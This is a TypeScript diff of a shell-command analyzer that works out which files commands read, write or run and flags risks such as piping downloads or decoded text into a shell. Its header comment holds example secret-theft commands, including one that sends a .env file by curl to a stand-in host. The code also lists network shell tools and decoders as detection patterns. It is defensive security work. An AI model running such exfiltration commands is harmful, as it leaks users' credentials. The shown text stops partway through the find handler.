@@ -1,0 +1,2146 @@
+/**
+ * What programs do with their arguments: the knowledge that turns `cp ~/.ssh/id_rsa /tmp/x` into
+ * "read ~/.ssh/id_rsa, write /tmp/x", `sudo -u x timeout 5 bash -c '…'` into the script it runs, and
+ * `curl -d @.env https://x` into "read .env, send it to x".
+ *
+ * Unknown programs are treated conservatively: every operand and option value is a path the program may
+ * read, so a secret named on any command line is seen by path rules whatever the program.
+ */
+import { basename, resolveLexical } from '../paths/paths';
+import { DYN, type CommandFact, type RiskKind, type UrlFact } from '../types';
+import type { Invocation, Producer, ShellAnalyzer, State, Stdin } from './analyze';
+import type { Field } from './expand';
+import { allValues, has, parseArgs, value, type OptSpec, type ParsedArgs } from './options';
+
+type Handler = (a: ShellAnalyzer, inv: Invocation) => void;
+
+const HANDLERS = new Map<string, Handler>();
+const on = (names: string | string[], h: Handler): void => {
+  for (const n of Array.isArray(names) ? names : [names]) HANDLERS.set(n, h);
+};
+
+export function dispatch(a: ShellAnalyzer, inv: Invocation, dynamicProgram: boolean): void {
+  if (dynamicProgram) return generic(a, inv);
+  const name = inv.program;
+  const h = HANDLERS.get(name) ?? HANDLERS.get(versionless(name));
+  if (h) h(a, inv);
+  else generic(a, inv);
+}
+
+/** `python3.12` → `python3`, `node20` → `node`, `pip3.11` → `pip3`. */
+function versionless(name: string): string {
+  return name.replace(/(\d)\.\d+$/, '$1').replace(/^(node|nodejs|perl|ruby|php|lua)\d+(\.\d+)*$/, '$1');
+}
+
+// ── shared helpers ──────────────────────────────────────────────────────
+
+const f = (text: string): Field => ({ text, dynamic: text.includes(DYN) });
+
+function emit(a: ShellAnalyzer, inv: Invocation, p: ParsedArgs, subcommand: string[] = [], extraFlags: string[] = []): CommandFact {
+  const fact: CommandFact = {
+    program: inv.program,
+    invokedAs: inv.invokedAs,
+    args: inv.args.map((x) => x.text),
+    subcommand,
+    flags: [...new Set([...p.flags, ...extraFlags])],
+    operands: p.operands.map((x) => x.text),
+    via: inv.via,
+    env: inv.env,
+    depth: inv.depth,
+  };
+  a.command(fact);
+  return fact;
+}
+
+function readAll(a: ShellAnalyzer, inv: Invocation, fields: readonly Field[], via: string, recursive = false): void {
+  for (const x of fields) a.path(x, 'read', via, inv.st, { recursive });
+}
+
+/** Run fields as a command (for wrappers), one nesting level deeper. */
+function wrap(a: ShellAnalyzer, inv: Invocation, fields: Field[], label: string, env: Record<string, string> = inv.env, st: State = inv.st): void {
+  if (!fields.length) return;
+  a.exec(fields, st, { env, stdin: inv.stdin, via: [...inv.via, label], depth: inv.depth + 1 });
+}
+
+function runText(a: ShellAnalyzer, inv: Invocation, text: Field | string, label: string): void {
+  const fld = typeof text === 'string' ? f(text) : text;
+  if (fld.dynamic) {
+    a.risk('dynamic-eval', `${label} runs text computed at run time: ${fld.text}`);
+  }
+  a.runText(fld.text, a.clone(inv.st), [...inv.via, label], inv.depth + 1, label);
+}
+
+function looksLikeUrl(t: string): boolean {
+  return /^[a-zA-Z][a-zA-Z0-9+.-]*:\/\//.test(t);
+}
+
+export function urlFact(raw: string, via: string, defaultScheme = 'http'): UrlFact | null {
+  let text = raw;
+  if (!looksLikeUrl(text)) {
+    if (!/^[A-Za-z0-9\u27ea\u27eb[\]_.-]+(:\d+)?(\/|$)/.test(text) || text.startsWith('-')) return null;
+    text = `${defaultScheme}://${text}`;
+  }
+  const m = /^([a-zA-Z][a-zA-Z0-9+.-]*):\/\/(?:[^@/?#]*@)?(\[[^\]]*\]|[^:/?#]*)(?::(\d+))?/.exec(text);
+  if (!m) return null;
+  const host = m[2]!.replace(/^\[|\]$/g, '').toLowerCase().replace(/\.$/, '');
+  const fact: UrlFact = { url: text, host: normalizeHost(host), scheme: m[1]!.toLowerCase(), via };
+  if (m[3]) fact.port = Number(m[3]);
+  return fact;
+}
+
+/** Decimal, hex and octal IPv4 spellings (`2852039166`, `0xa9fea9fe`, `0251.0376.0251.0376`) → dotted quad. */
+function normalizeHost(host: string): string {
+  if (/^\d+$/.test(host) && Number(host) <= 0xffffffff) return intToIp(Number(host));
+  if (/^0x[0-9a-f]+$/i.test(host) && Number(host) <= 0xffffffff) return intToIp(Number(host));
+  const parts = host.split('.');
+  if (parts.length === 4 && parts.every((p) => /^(0x[0-9a-f]+|0[0-7]*|[1-9]\d*)$/i.test(p))) {
+    const nums = parts.map((p) => (/^0x/i.test(p) ? parseInt(p, 16) : p.length > 1 && p.startsWith('0') ? parseInt(p, 8) : Number(p)));
+    if (nums.every((n) => n >= 0 && n <= 255)) return nums.join('.');
+  }
+  const mapped = /^::ffff:(\d+\.\d+\.\d+\.\d+)$/i.exec(host);
+  if (mapped) return mapped[1]!;
+  return host;
+}
+
+function intToIp(n: number): string {
+  return [24, 16, 8, 0].map((s) => (n >>> s) & 255).join('.');
+}
+
+function addUrl(a: ShellAnalyzer, inv: Invocation, raw: string, via: string, sends?: UrlFact['sends'], defaultScheme?: string): void {
+  const fact = urlFact(raw, via, defaultScheme);
+  if (!fact) return;
+  if (sends) fact.sends = sends;
+  a.url(fact);
+  if (fact.scheme === 'file') a.path(f(fact.url.slice('file://'.length) || '/'), 'read', `${via} file://`, inv.st);
+}
+
+/** Where data an argument sends comes from: a file, the environment, a substitution, or literal text. */
+function sendsOf(x: Field): NonNullable<UrlFact['sends']> {
+  if (x.from?.subst) return 'substitution';
+  if (x.from?.vars || x.dynamic) return 'env';
+  return 'literal';
+}
+
+function stdinSends(stdin: Stdin): UrlFact['sends'] | undefined {
+  switch (stdin.kind) {
+    case 'none':
+      return undefined;
+    case 'file':
+      return 'file';
+    case 'text':
+      return stdin.dynamic ? 'env' : 'literal';
+    case 'pipe':
+      return stdin.producers.some((p) => p.files?.length) ? 'file' : 'stdin';
+  }
+}
+
+// ── stdin classification (what a shell or interpreter would execute) ──────
+
+const NETWORK_PRODUCERS = new Set(['curl', 'wget', 'fetch', 'http', 'https', 'xh', 'aria2c', 'lwp-request', 'GET', 'nc', 'ncat', 'netcat', 'socat', 'ftp', 'tftp', 'ssh', 'scp', 'invoke-webrequest', 'iwr']);
+const DECODERS: Record<string, (args: string[]) => boolean> = {
+  base64: (a) => a.some((x) => /^-(\w*d\w*|D)$/.test(x) || x === '--decode'),
+  base32: (a) => a.some((x) => /^-\w*d/.test(x) || x === '--decode'),
+  basenc: (a) => a.some((x) => /^-\w*d/.test(x) || x === '--decode'),
+  xxd: (a) => a.some((x) => /^-\w*r/.test(x) || x === '-revert'),
+  uudecode: () => true,
+  openssl: (a) => a.includes('-d') || a.includes('-decode') || a.includes('base64'),
+  gunzip: () => true,
+  zcat: () => true,
+  gzip: (a) => a.some((x) => /^-\w*d/.test(x) || x === '--decompress'),
+  bunzip2: () => true,
+  bzcat: () => true,
+  xz: (a) => a.some((x) => /^-\w*d/.test(x) || x === '--decompress'),
+  unxz: () => true,
+  xzcat: () => true,
+  zstd: (a) => a.some((x) => /^-\w*d/.test(x) || x === '--decompress'),
+  unzstd: () => true,
+  rev: () => true,
+  tr: () => true,
+  perl: () => true,
+  python: () => true,
+  python3: () => true,
+  node: () => true,
+  ruby: () => true,
+  printf: (a) => a.some((x) => /\\x[0-9a-f]|\\[0-7]{3}/i.test(x)),
+  echo: (a) => a.some((x) => /^-\w*e/.test(x)),
+};
+
+export type ScriptSource =
+  | { kind: 'text'; text: string; dynamic: boolean }
+  | { kind: 'file'; path: string }
+  | { kind: 'risk'; risk: RiskKind; detail: string }
+  | { kind: 'none' };
+
+export function classifyStdin(stdin: Stdin): ScriptSource {
+  switch (stdin.kind) {
+    case 'none':
+      return { kind: 'none' };
+    case 'text':
+      return { kind: 'text', text: stdin.text, dynamic: stdin.dynamic };
+    case 'file':
+      return { kind: 'file', path: stdin.path };
+    case 'pipe':
+      return classifyProducers(stdin.producers);
+  }
+}
+
+function classifyProducers(producers: Producer[]): ScriptSource {
+  const net = producers.find((p) => NETWORK_PRODUCERS.has(p.program) || p.risks.includes('interpreter-inline-net') || p.risks.includes('download-to-shell'));
+  if (net) return { kind: 'risk', risk: 'download-to-shell', detail: `output of ${net.program} ${net.args.join(' ')}`.trim() };
+  const dec = producers.find((p) => DECODERS[p.program]?.(p.args) || p.risks.includes('decoded-to-shell'));
+  if (dec) return { kind: 'risk', risk: 'decoded-to-shell', detail: `decoded output of ${dec.program} ${dec.args.join(' ')}`.trim() };
+  const last = producers[producers.length - 1];
+  if (last && last.output !== undefined) return { kind: 'text', text: last.output, dynamic: !!last.outputDynamic };
+  if (last?.files?.length === 1) return { kind: 'file', path: last.files[0]! };
+  const names = producers.map((p) => p.program).join(' | ') || 'unknown producer';
+  return { kind: 'risk', risk: 'dynamic-shell-input', detail: `runs the output of ${names}` };
+}
+
+/** A shell or interpreter executes a script from `src`. */
+function executeSource(a: ShellAnalyzer, inv: Invocation, src: ScriptSource, label: string, lang: 'shell' | 'inline'): void {
+  switch (src.kind) {
+    case 'none':
+      return;
+    case 'text':
+      if (lang === 'shell') runText(a, inv, { text: src.text, dynamic: src.dynamic }, label);
+      else inlineCode(a, inv, src.text, label);
+      return;
+    case 'file':
+      a.path(f(src.path), 'exec', `${label} script`, inv.st);
+      a.path(f(src.path), 'read', `${label} script`, inv.st);
+      return;
+    case 'risk':
+      a.risk(src.risk, `${label}: ${src.detail}`);
+  }
+}
+
+// ── generic and "no file" programs ──────────────────────────────────────
+
+function generic(a: ShellAnalyzer, inv: Invocation): void {
+  const p = parseArgs(inv.args);
+  emit(a, inv, p);
+  for (const op of p.operands) {
+    if (looksLikeUrl(op.text)) addUrl(a, inv, op.text, inv.program);
+    a.path(op, 'read', `${inv.program} operand`, inv.st);
+  }
+  for (const vals of p.values.values()) for (const v of vals) if (v.text) a.path(v, 'read', `${inv.program} option`, inv.st);
+}
+
+/** Programs whose arguments are never file names. */
+const NO_FILES = [
+  'true', 'false', ':', 'test', '[', 'exit', 'return', 'break', 'continue', 'shift', 'sleep', 'date', 'id',
+  'hostname', 'uname', 'which', 'type', 'hash', 'kill', 'pkill', 'killall', 'jobs', 'wait', 'seq', 'yes', 'expr',
+  'umask', 'ulimit', 'let', 'getopts', 'mapfile', 'readarray', 'unalias', 'clear', 'tput', 'stty', 'tty', 'nproc',
+  'free', 'uptime', 'ps', 'top', 'htop', 'w', 'who', 'logname', 'groups', 'disown', 'bg', 'fg', 'times', 'caller',
+  'arch', 'locale', 'tzselect', 'cal', 'factor', 'bc', 'dc', 'notify-send', 'say', 'beep', 'npx-which',
+];
+for (const n of NO_FILES) on(n, (a, inv) => emit(a, inv, parseArgs(inv.args)));
+
+on('echo', (a, inv) => {
+  let i = 0;
+  let newline = true;
+  let escapes = false;
+  while (i < inv.args.length && /^-[neE]+$/.test(inv.args[i]!.text)) {
+    const t = inv.args[i]!.text;
+    if (t.includes('n')) newline = false;
+    if (t.includes('e')) escapes = true;
+    if (t.includes('E')) escapes = false;
+    i++;
+  }
+  const words = inv.args.slice(i);
+  let text = words.map((w) => w.text).join(' ');
+  if (escapes) text = unescapeC(text);
+  inv.output = { text: text + (newline ? '\n' : ''), dynamic: words.some((w) => w.dynamic) };
+  emit(a, inv, parseArgs([]));
+});
+
+on('printf', (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'v', stopAtOperand: true });
+  emit(a, inv, p);
+  const target = value(p, '-v');
+  const [fmt, ...rest] = p.rest;
+  if (!fmt) return;
+  const out = formatPrintf(fmt.text, rest.map((r) => r.text));
+  const dynamic = fmt.dynamic || rest.some((r) => r.dynamic) || out === null;
+  if (target && !target.dynamic) a.setVar(inv.st, target.text, dynamic ? { v: [], dyn: true } : { v: [out ?? ''], dyn: false });
+  else inv.output = { text: out ?? DYN, dynamic };
+});
+
+on('pwd', (a, inv) => {
+  emit(a, inv, parseArgs(inv.args));
+  const cwd = inv.st.cwd;
+  inv.output = cwd.v.length === 1 && !cwd.dyn ? { text: cwd.v[0]! + '\n', dynamic: false } : { text: DYN, dynamic: true };
+});
+
+on('whoami', (a, inv) => {
+  emit(a, inv, parseArgs(inv.args));
+  inv.output = { text: a.env.user + '\n', dynamic: false };
+});
+
+on(['basename', 'dirname'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 's', long: ['suffix'] });
+  emit(a, inv, p);
+  const x = p.operands[0];
+  if (!x) return;
+  const t = x.text.replace(/\/+$/, '') || '/';
+  let out: string;
+  if (inv.program === 'dirname') out = t.includes('/') ? t.slice(0, t.lastIndexOf('/')) || '/' : '.';
+  else {
+    out = basename(t);
+    const suffix = value(p, '-s', '--suffix')?.text ?? p.operands[1]?.text;
+    if (suffix && out.endsWith(suffix) && out !== suffix) out = out.slice(0, -suffix.length);
+  }
+  inv.output = { text: out + '\n', dynamic: x.dynamic };
+});
+
+on(['realpath', 'readlink', 'stat', 'ls', 'tree', 'du', 'df', 'file', 'lsattr', 'getfacl', 'exa', 'eza', 'lsd'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: inv.program === 'stat' ? 'cf' : inv.program === 'du' ? 'dBt' : 'IPTwL' });
+  emit(a, inv, p);
+  for (const op of p.operands) a.path(op, 'list', `${inv.program} operand`, inv.st);
+});
+
+on(['printenv', 'compgen'], (a, inv) => {
+  const p = parseArgs(inv.args);
+  emit(a, inv, p);
+  if (inv.program === 'printenv' && p.operands.length) {
+    a.risk('env-dump', `printenv ${p.operands.map((o) => o.text).join(' ')}`);
+    return;
+  }
+  if (inv.program === 'printenv' || has(p, '-v', '-e', '-A')) a.risk('env-dump', `${inv.program} prints the environment`);
+});
+
+on('set', (a, inv) => {
+  const p = parseArgs(inv.args);
+  emit(a, inv, p);
+  if (!inv.args.length) a.risk('env-dump', 'set with no arguments prints every variable');
+});
+
+on(['export', 'declare', 'typeset', 'local', 'readonly'], (a, inv) => {
+  const p = parseArgs(inv.args);
+  emit(a, inv, p);
+  const ops = p.operands;
+  if (!ops.length && (inv.program !== 'local' || has(p, '-p'))) {
+    a.risk('env-dump', `${inv.program} ${inv.args.map((x) => x.text).join(' ')} lists variables`.trim());
+    return;
+  }
+  for (const op of ops) {
+    const eq = op.text.indexOf('=');
+    const name = eq < 0 ? op.text : op.text.slice(0, eq);
+    if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)) continue;
+    if (eq >= 0) {
+      const val = op.text.slice(eq + 1);
+      a.setVar(inv.st, name, op.dynamic ? { v: [], dyn: true } : { v: [val], dyn: false });
+      a.envFact({ name, value: op.dynamic ? DYN : val, via: inv.program === 'export' ? 'export' : 'assignment' });
+      if (name === 'PATH') a.risk('shell-state-change', `${inv.program} PATH=${val}`);
+    } else if (inv.program === 'export') {
+      const cur = a.varOf(inv.st, name);
+      a.envFact({ name, value: cur.v.length === 1 && !cur.dyn ? cur.v[0]! : DYN, via: 'export' });
+    }
+  }
+});
+
+on('unset', (a, inv) => {
+  const p = parseArgs(inv.args);
+  emit(a, inv, p);
+  if (has(p, '-f')) return;
+  for (const op of p.operands) if (!op.dynamic) a.setVar(inv.st, op.text, { v: [''], dyn: false });
+});
+
+on('read', (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'adinNptu' });
+  emit(a, inv, p);
+  const names = p.operands.length ? p.operands : [f('REPLY')];
+  for (const n of names) if (!n.dynamic) a.setVar(inv.st, n.text, { v: [], dyn: true });
+  const arr = value(p, '-a');
+  if (arr && !arr.dynamic) a.setVar(inv.st, arr.text, { v: [], dyn: true });
+});
+
+on(['alias'], (a, inv) => {
+  const p = parseArgs(inv.args);
+  emit(a, inv, p);
+  for (const op of p.operands) {
+    const eq = op.text.indexOf('=');
+    if (eq < 0) continue;
+    a.risk('shell-state-change', `alias ${op.text}`);
+    runText(a, inv, { text: op.text.slice(eq + 1), dynamic: op.dynamic }, `alias ${op.text.slice(0, eq)}`);
+  }
+});
+
+on('trap', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true });
+  emit(a, inv, p);
+  const action = p.rest[0];
+  if (action && p.rest.length > 1 && action.text !== '-' && action.text !== '') runText(a, inv, action, 'trap');
+});
+
+on(['enable'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'f' });
+  emit(a, inv, p);
+  const lib = value(p, '-f');
+  if (lib) {
+    a.risk('shell-state-change', `enable -f loads ${lib.text}`);
+    a.path(lib, 'exec', 'enable -f', inv.st);
+  }
+});
+
+on(['fc', 'history'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'eslnr' });
+  emit(a, inv, p);
+  if (inv.program === 'fc' && !has(p, '-l')) a.risk('dynamic-eval', 'fc re-runs commands from the shell history');
+});
+
+// ── directory changes ───────────────────────────────────────────────────
+
+function resolveDirs(a: ShellAnalyzer, st: State, target: Field): { v: string[]; dyn: boolean } {
+  if (target.dynamic || target.glob) return { v: [], dyn: true };
+  return { v: a.cwdList(st).map((base) => resolveLexical(base, target.text)), dyn: st.cwd.dyn };
+}
+
+on(['cd', 'chdir'], (a, inv) => {
+  const p = parseArgs(inv.args);
+  emit(a, inv, p);
+  const target = p.operands[0];
+  inv.output = { text: '', dynamic: false };
+  if (!target) return a.setCwd(inv.st, { v: [a.env.home], dyn: false });
+  if (target.text === '-') return a.setCwd(inv.st, inv.st.oldpwd);
+  a.setCwd(inv.st, resolveDirs(a, inv.st, target));
+});
+
+on('pushd', (a, inv) => {
+  const p = parseArgs(inv.args);
+  emit(a, inv, p);
+  const target = p.operands[0];
+  const cur = inv.st.cwd;
+  if (!target) {
+    const top = inv.st.dirStack.pop() ?? { v: [], dyn: true };
+    inv.st.dirStack.push(cur);
+    return a.setCwd(inv.st, top);
+  }
+  inv.st.dirStack.push(cur);
+  if (/^[+-]\d+$/.test(target.text)) return a.setCwd(inv.st, { v: [], dyn: true });
+  a.setCwd(inv.st, resolveDirs(a, inv.st, target));
+});
+
+on('popd', (a, inv) => {
+  emit(a, inv, parseArgs(inv.args));
+  a.setCwd(inv.st, inv.st.dirStack.pop() ?? { v: [], dyn: true });
+});
+
+// ── wrappers ────────────────────────────────────────────────────────────
+
+on(['nohup', 'time', 'builtin', 'caffeinate', 'catchsegv', 'xvfb-run', 'dbus-launch', 'proxychains', 'proxychains4', 'torsocks', 'tsocks', 'unbuffer', 'rlwrap', 'coproc', 'nocorrect', 'noglob'], (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: inv.program === 'time' ? 'fo' : '' });
+  emit(a, inv, p);
+  wrap(a, inv, p.rest, inv.program);
+});
+
+on('command', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true });
+  emit(a, inv, p);
+  if (has(p, '-v', '-V')) return;
+  wrap(a, inv, p.rest, 'command');
+});
+
+on('exec', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'a' });
+  emit(a, inv, p);
+  wrap(a, inv, p.rest, 'exec');
+});
+
+on('nice', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'n', long: ['adjustment'], numeric: true });
+  emit(a, inv, p);
+  wrap(a, inv, p.rest, 'nice');
+});
+
+on('timeout', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'sk', long: ['signal', 'kill-after'], flags: ['--preserve-status', '--foreground', '--verbose'] });
+  emit(a, inv, p);
+  wrap(a, inv, p.rest.slice(1), 'timeout');
+});
+
+on('stdbuf', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'ioe', long: ['input', 'output', 'error'] });
+  emit(a, inv, p);
+  wrap(a, inv, p.rest, 'stdbuf');
+});
+
+on('setsid', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true });
+  emit(a, inv, p);
+  wrap(a, inv, p.rest, 'setsid');
+});
+
+on('ionice', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'cnp', long: ['class', 'classdata', 'pid', 'pgid', 'uid'] });
+  emit(a, inv, p);
+  if (!has(p, '-p', '-P', '-u')) wrap(a, inv, p.rest, 'ionice');
+});
+
+on(['chrt', 'taskset'], (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: inv.program === 'taskset' ? '' : 'T' });
+  emit(a, inv, p);
+  if (!has(p, '-p', '--pid')) wrap(a, inv, p.rest.slice(1), inv.program);
+});
+
+on(['chroot'], (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, long: ['userspec', 'groups'] });
+  emit(a, inv, p);
+  wrap(a, inv, p.rest.slice(1), 'chroot');
+});
+
+on(['unshare', 'nsenter', 'firejail', 'bwrap', 'systemd-run', 'strace', 'ltrace', 'valgrind', 'perf', 'gdb', 'lldb', 'fakeroot', 'faketime'], (a, inv) => {
+  const shortWithValue: Record<string, string> = { strace: 'oeEpPsSabuI', ltrace: 'oeEpsSanuAL', nsenter: 'tSGwr', perf: 'oe', faketime: 'f', gdb: 'xp' };
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: shortWithValue[inv.program] ?? '', long: ['bind', 'ro-bind', 'setenv', 'unit', 'property', 'output'] });
+  emit(a, inv, p);
+  const out = value(p, '-o', '--output');
+  if (out) a.path(out, 'write', `${inv.program} -o`, inv.st);
+  let rest = p.rest;
+  if (inv.program === 'perf' && rest[0]) rest = rest.slice(1);
+  if (inv.program === 'gdb' || inv.program === 'lldb') {
+    if (has(p, '--args')) wrap(a, inv, rest, inv.program);
+    else if (rest[0]) a.path(rest[0], 'exec', inv.program, inv.st);
+    for (const ex of allValues(p, '-ex', '-x')) a.risk('interpreter-inline-exec', `${inv.program} command ${ex.text}`);
+    return;
+  }
+  wrap(a, inv, rest, inv.program);
+});
+
+on(['sudo', 'doas', 'pkexec', 'run0'], (a, inv) => {
+  const short = inv.program === 'sudo' ? 'ugCDhprtUTR' : inv.program === 'doas' ? 'uC' : '';
+  const p = parseArgs(inv.args, { stopAtOperand: true, short, long: ['user', 'group', 'close-from', 'chdir', 'host', 'prompt', 'role', 'type', 'other-user', 'command-timeout', 'chroot'] });
+  emit(a, inv, p);
+  let rest = p.rest;
+  const env: Record<string, string> = { ...inv.env };
+  while (rest[0] && /^[A-Za-z_][A-Za-z0-9_]*=/.test(rest[0].text)) {
+    const t = rest[0].text;
+    env[t.slice(0, t.indexOf('='))] = rest[0].dynamic ? DYN : t.slice(t.indexOf('=') + 1);
+    rest = rest.slice(1);
+  }
+  if (has(p, '-e', '--edit')) {
+    for (const x of rest) a.path(x, 'write', 'sudoedit', inv.st);
+    return;
+  }
+  if ((has(p, '-s', '--shell', '-i', '--login')) && rest.length) {
+    runText(a, inv, { text: rest.map((r) => r.text).join(' '), dynamic: rest.some((r) => r.dynamic) }, `${inv.program} -s`);
+    return;
+  }
+  let st = inv.st;
+  const dir = value(p, '-D', '--chdir');
+  if (dir) {
+    st = a.clone(inv.st);
+    a.setCwd(st, { v: a.cwdList(inv.st).map((b) => resolveLexical(b, dir.text)), dyn: dir.dynamic });
+  }
+  wrap(a, inv, rest, inv.program, env, st);
+});
+
+on(['su', 'runuser'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'cgGsuw', long: ['command', 'session-command', 'group', 'supp-group', 'shell', 'user', 'whitelist-environment'] });
+  emit(a, inv, p);
+  const c = value(p, '-c', '--command', '--session-command');
+  if (c) runText(a, inv, c, `${inv.program} -c`);
+  else if (inv.program === 'runuser' && value(p, '-u') && p.operands.length) wrap(a, inv, p.operands, 'runuser');
+});
+
+on('env', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'uCS', long: ['unset', 'chdir', 'split-string', 'block-signal', 'default-signal', 'ignore-signal'], groups: [['-i', '--ignore-environment']] });
+  let rest = p.rest;
+  const env: Record<string, string> = { ...inv.env };
+  while (rest[0] && /^[A-Za-z_][A-Za-z0-9_]*=/.test(rest[0].text)) {
+    const t = rest[0].text;
+    const name = t.slice(0, t.indexOf('='));
+    env[name] = rest[0].dynamic ? DYN : t.slice(t.indexOf('=') + 1);
+    rest = rest.slice(1);
+  }
+  const split = value(p, '-S', '--split-string');
+  if (split) rest = [...split.text.split(/\s+/).filter(Boolean).map(f), ...rest];
+  emit(a, inv, p);
+  if (!rest.length) {
+    a.risk('env-dump', 'env with no command prints the environment');
+    for (const [name, v] of Object.entries(env)) if (!(name in inv.env)) a.envFact({ name, value: v, via: 'env' });
+    return;
+  }
+  for (const [name, v] of Object.entries(env)) if (!(name in inv.env)) a.envFact({ name, value: v, via: 'env' });
+  let st = inv.st;
+  const dir = value(p, '-C', '--chdir');
+  if (dir) {
+    st = a.clone(inv.st);
+    a.setCwd(st, { v: a.cwdList(inv.st).map((b) => resolveLexical(b, dir.text)), dyn: dir.dynamic });
+  }
+  wrap(a, inv, rest, 'env', env, st);
+});
+
+on('flock', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'wEc', long: ['timeout', 'conflict-exit-code', 'command'] });
+  emit(a, inv, p);
+  const [lock, ...cmd] = p.rest;
+  if (lock && !/^\d+$/.test(lock.text)) a.path(lock, 'write', 'flock lock file', inv.st);
+  const c = value(p, '-c', '--command') ?? (cmd[0]?.text === '-c' ? cmd[1] : undefined);
+  if (c) runText(a, inv, c, 'flock -c');
+  else wrap(a, inv, cmd, 'flock');
+});
+
+on('script', (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'cEIOBTm', long: ['command', 'echo', 'log-in', 'log-out', 'log-io', 'log-timing', 'logging-format'] });
+  emit(a, inv, p);
+  const c = value(p, '-c', '--command');
+  if (c) runText(a, inv, c, 'script -c');
+  for (const o of p.operands) a.path(o, 'write', 'script typescript file', inv.st);
+});
+
+on('watch', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'dnq', long: ['differences', 'interval', 'equexit'] });
+  emit(a, inv, p);
+  if (!p.rest.length) return;
+  if (has(p, '-x', '--exec')) wrap(a, inv, p.rest, 'watch');
+  else runText(a, inv, { text: p.rest.map((r) => r.text).join(' '), dynamic: p.rest.some((r) => r.dynamic) }, 'watch');
+});
+
+on('xargs', (a, inv) => {
+  const p = parseArgs(inv.args, {
+    stopAtOperand: true,
+    short: 'adELlnPsI',
+    shortOptional: 'ei',
+    long: ['arg-file', 'delimiter', 'eof', 'replace', 'max-lines', 'max-args', 'max-procs', 'max-chars', 'process-slot-var'],
+  });
+  emit(a, inv, p);
+  for (const file of allValues(p, '-a', '--arg-file')) a.path(file, 'read', 'xargs -a', inv.st);
+  const cmd = p.rest.length ? p.rest : [f('echo')];
+  const items = stdinItems(inv.stdin);
+  const repl = value(p, '-I', '--replace', '-i');
+  const replStr = repl ? repl.text || '{}' : has(p, '-i') ? '{}' : undefined;
+  const variants = items.length ? items.slice(0, 16) : [{ text: DYN, dynamic: true }];
+  for (const item of variants) {
+    const fields = replStr ? cmd.map((c) => (c.text.includes(replStr) ? { text: c.text.split(replStr).join(item.text), dynamic: c.dynamic || item.dynamic } : c)) : [...cmd, item];
+    wrap(a, { ...inv, stdin: { kind: 'none' } }, fields, 'xargs');
+  }
+});
+
+/** Items a command gets on stdin when the text is statically known (xargs). */
+function stdinItems(stdin: Stdin): Field[] {
+  if (stdin.kind === 'text' && !stdin.dynamic) return stdin.text.split(/\s+/).filter(Boolean).map(f);
+  if (stdin.kind === 'pipe') {
+    const last = stdin.producers[stdin.producers.length - 1];
+    if (last?.output !== undefined && !last.outputDynamic) return last.output.split(/\s+/).filter(Boolean).map(f);
+  }
+  return [];
+}
+
+on('parallel', (a, inv) => {
+  const sep = inv.args.findIndex((x) => /^:::+\+?$/.test(x.text));
+  const head = sep < 0 ? inv.args : inv.args.slice(0, sep);
+  const values = sep < 0 ? [] : inv.args.slice(sep + 1).filter((x) => !/^:::+\+?$/.test(x.text));
+  const p = parseArgs(head, { stopAtOperand: true, short: 'jSaIdE', long: ['jobs', 'sshlogin', 'arg-file', 'replace', 'delimiter', 'joblog', 'results', 'tmpdir'] });
+  emit(a, inv, p);
+  for (const file of allValues(p, '-a', '--arg-file')) a.path(file, 'read', 'parallel -a', inv.st);
+  const items = values.length ? values.slice(0, 16) : stdinItems(inv.stdin).slice(0, 16);
+  const variants = items.length ? items : [{ text: DYN, dynamic: true }];
+  for (const item of variants) {
+    const cmd = p.rest.map((c) => (c.text.includes('{}') ? { text: c.text.split('{}').join(item.text), dynamic: c.dynamic || item.dynamic } : c));
+    if (!cmd.length) continue;
+    if (cmd.length === 1 && /\s/.test(cmd[0]!.text)) runText(a, inv, cmd[0]!, 'parallel');
+    else wrap(a, { ...inv, stdin: { kind: 'none' } }, p.rest.some((c) => c.text.includes('{}')) ? cmd : [...cmd, item], 'parallel');
+  }
+});
+
+on('find', (a, inv) => {
+  const args = inv.args;
+  let i = 0;
+  while (i < args.length && /^-[HLP]$|^-D|^-O\d/.test(args[i]!.text)) i++;
+  const roots: Field[] = [];
+  while (i < args.length && !/^[-(!,]/.test(args[i]!.text)) roots.push(args[i++]!);
+  if (!roots.length) roots.push(f('.'));
+  const expr = args.slice(i);
+  const flags = expr.filter((x) => x.text.startsWith('-')).map((x) => x.text);
+  a.command({ program: 'find', invokedAs: inv.invokedAs, args: args.map((x) => x.text), subcommand: [], flags, operands: roots.map((r) => r.text), via: inv.via, env: inv.env, depth: inv.depth });
+  for (const r of roots) a.path(r, 'list', 'find root', inv.st, { recursive: true });
+  const names: string[] = [];
+  for (let j = 0; j < expr.length; j++) {
+    const t = expr[j]!.text;
+    if ((t === '-name' || t === '-iname' || t === '-path' || t === '-wholename' || t === '-ipath') && expr[j + 1]) names.push(expr[j + 1]!.text);
+  }
+  const pattern = (root: Field): Field => {
+    const base = root.text.replace(/\/+$/, '');
+    const name = names.find((n) => !n.includes('/'));
+    return { text: DYN, dynamic: false, glob: `${base}/**${name ? `/${name}` : ''}`, globDot: true };
+  };
+  for (let j = 0; j < expr.length; j++) {
+    const t = expr[j]!.text;
